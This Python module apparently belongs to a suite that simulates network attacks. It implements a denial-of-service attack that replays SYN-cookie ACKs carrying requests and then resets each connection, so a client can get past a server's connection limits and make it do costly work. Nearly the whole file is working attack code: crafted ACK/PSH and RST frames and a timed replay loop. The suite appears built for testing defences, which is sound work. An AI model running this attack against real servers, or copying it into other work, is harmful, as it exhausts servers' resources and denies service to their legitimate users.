"""A guest begins connections faster than it may, without a SYN, and asks by each.

As cookies_replayed, but each ACK has a request: the server answers it, or says that there were too many, and the guest resets the connection, so
that it never has as many open as it may. Gained: connections without a limit, each of which costs the server more than a refusal does. In the
way: as there.
"""

import time

import wire
from attacks import cookies_replayed
from attacks.cookies_replayed import Cookies
from field import Field
from puppets import REQUEST

# When a cookie that made no connection is repeated.
PATIENCE = 0.02


class Attack(cookies_replayed.Attack):
    """The same guest."""

    hosts = ("address",)
    proofs = (("address", 4),)

    def repeat(self, field: Field, card: wire.Wire, cookies: Cookies) -> None:
        """Repeats the ACK of each cookie as soon as its connection has ended."""
        asks = {port: cookies.frame(port, wire.ACK | wire.PSH, 1, REQUEST) for port in cookies.cookies}
        ends = {port: cookies.frame(port, wire.RST, 1 + len(REQUEST)) for port in cookies.cookies}
        due = dict.fromkeys(asks, 0.0)
        answered = refused = 0
        while field.goes_on():
            now = time.monotonic()
            ready = [port for port in asks if due[port] < now]
            card.send(*(asks[port] for port in ready))
            due |= dict.fromkeys(ready, now + PATIENCE)
            cookies.work(0.0002)
            ended = cookies.answered[answered:]
            card.send(*(ends[port] for port in ended))
            due |= dict.fromkeys((*ended, *cookies.refused[refused:]), 0.0)
            answered, refused = len(cookies.answered), len(cookies.refused)
